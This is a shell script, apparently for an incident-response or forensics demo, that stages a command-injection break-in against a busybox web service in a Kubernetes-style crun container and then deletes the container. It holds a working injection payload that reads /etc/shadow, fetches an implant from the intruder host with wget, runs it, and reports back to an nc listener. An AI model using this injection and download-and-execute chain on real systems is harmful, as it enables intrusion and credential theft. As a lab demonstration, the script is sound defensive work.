#!/bin/sh
# SPDX-License-Identifier: BSD-2-Clause
# The incident of the demo, in a guest: a web service in an OCI container is broken into through a
# command injection, then the container is killed and deleted with all its files.
#
# crun runs the container from a bundle with the paths, the cgroup and the annotations that
# containerd's CRI gives to a Kubernetes pod. The intruder is on the host's side of a veth pair:
# 10.1.0.1, while the container has 10.1.0.2. What the intruder received is left in /out/loot.txt.
set -eu
here=$(cd "$(dirname "$0")" && pwd)

id=9f2c1e7ab04d5836c1f0e2d3b4a5968778695a4b3c2d1e0f9f8e7d6c5b4a3928
sandbox=41b6d0c29e8f7a5b3c1d2e4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293
pod_uid=5e0f6f3e-8a0d-4c55-9d0b-1f7e2a9c4b11
bundle=/run/containerd/io.containerd.runtime.v2.task/k8s.io/$id
state=/run/containerd/runc/k8s.io
out=${OUT:-/out}

say() { echo "incident: $*"; }

# ---- a pod's container, as containerd leaves it ----

make_bundle() {
	root=$bundle/rootfs
	mkdir -p "$root/bin" "$root/etc" "$root/proc" "$root/dev" "$root/sys" "$root/tmp" \
		"$root/srv/www/cgi-bin" "$root/var/spool/cron/crontabs"
	cp /bin/busybox "$root/bin/busybox"
	for applet in sh cat chmod echo hostname httpd id ls ping rm wget; do
		ln -s busybox "$root/bin/$applet"
	done
	printf '%s\n' root:x:0:0:root:/root:/bin/sh www:x:80:80:www:/srv/www:/bin/false >"$root/etc/passwd"
	printf '%s\n' 'root:$6$c0ffee$notarealhash:19700:0:99999:7:::' 'www:*:19700:0:99999:7:::' >"$root/etc/shadow"
	chmod 600 "$root/etc/shadow"
	echo '<h1>shop</h1>' >"$root/srv/www/index.html"
	cp "$here/ping.cgi" "$root/srv/www/cgi-bin/ping"
	chmod +x "$root/srv/www/cgi-bin/ping"
	sed "s/@ID@/$id/; s/@SANDBOX@/$sandbox/; s/@POD_UID@/$pod_uid/" "$here/config.json" >"$bundle/config.json"
}

start_container() {
	mkdir -p "$state"
	crun --root "$state" create --bundle "$bundle" --pid-file "$bundle/init.pid" "$id" \
		>/run/web.log 2>&1 </dev/null || { cat /run/web.log; exit 1; }
	pid=$(cat "$bundle/init.pid")
	# busybox cannot name the other end, the kernel calls it veth0
	ip link add name pod0 type veth
	ip link set veth0 netns "$pid"
	ip addr add 10.1.0.1/24 dev pod0
	ip link set pod0 up
	nsenter -t "$pid" -n ip addr add 10.1.0.2/24 dev veth0
	nsenter -t "$pid" -n ip link set veth0 up
	nsenter -t "$pid" -n ip link set lo up
	crun --root "$state" start "$id"
}

# wait_for WHAT COMMAND...: until the command succeeds, 20 s at most.
wait_for() {
	what=$1
	shift
	for _ in $(seq 100); do
		"$@" >/dev/null 2>&1 && return
		sleep 0.2
	done
	echo "incident: no $what" >&2
	exit 1
}

# ---- the intruder's side ----

start_intruder() {
	mkdir -p /srv/intruder
	cp "$here/implant" /srv/intruder/x
	/bin/httpd -p 10.1.0.1:8000 -h /srv/intruder
	/bin/nc -l -p 4444 >"$out/loot.txt" 2>/dev/null </dev/null &
	listener=$!
	wait_for "listener on port 4444" sh -c 'netstat -ltn | grep -q :4444'
}

# not wget -T, with which Debian's busybox crashes
request() { timeout 20 /bin/wget -q -O - "http://10.1.0.2/$1"; }

# an URL has no blanks and no semicolons
quote() { echo "$1" | sed 's/ /%20/g; s/;/%3B/g; s/&/%26/g; s/>/%3E/g; s/+/%2B/g'; }

# paths, because busybox runs its own commands without a program of their name in between
injected='127.0.0.1; /bin/sh -c "/bin/id; /bin/cat /etc/shadow; /bin/wget -q -O /tmp/.x http://10.1.0.1:8000/x; '
injected=$injected'/bin/chmod +x /tmp/.x; /tmp/.x >/dev/null 2>&1 &"'

make_bundle
say "container web of pod shop/shop-web-7d4b9c6f5-x2x8q starts"
start_container
wait_for "web service" request index.html
start_intruder
say "a visitor asks for a ping"
request 'cgi-bin/ping?host=127.0.0.1' >/dev/null
say "the intruder injects a command"
request "cgi-bin/ping?host=$(quote "$injected")" \
	>"$out/answer.txt"
grep -q notarealhash "$out/answer.txt" || { say "the intruder did not get the shadow file"; exit 1; }
wait_for "call from the implant" grep -q 'waiting for orders' "$out/loot.txt"
wait_for "end of the implant's file" sh -c "! [ -e '$bundle/rootfs/tmp/.x' ]"
say "the container is killed, and deleted with all its files"
crun --root "$state" kill "$id" KILL
wait_for "end of the container" sh -c "crun --root $state state $id | grep -q stopped"
crun --root "$state" delete --force "$id"
/bin/rm -rf "$bundle"
kill "$listener" 2>/dev/null || :
rmdir "/sys/fs/cgroup/kubepods/besteffort/pod$pod_uid" /sys/fs/cgroup/kubepods/besteffort \
	/sys/fs/cgroup/kubepods 2>/dev/null || :
[ ! -e "$bundle" ] && ! [ -d "$state/$id" ] || { say "something of the container is left"; exit 1; }
say "nothing of the container is left"
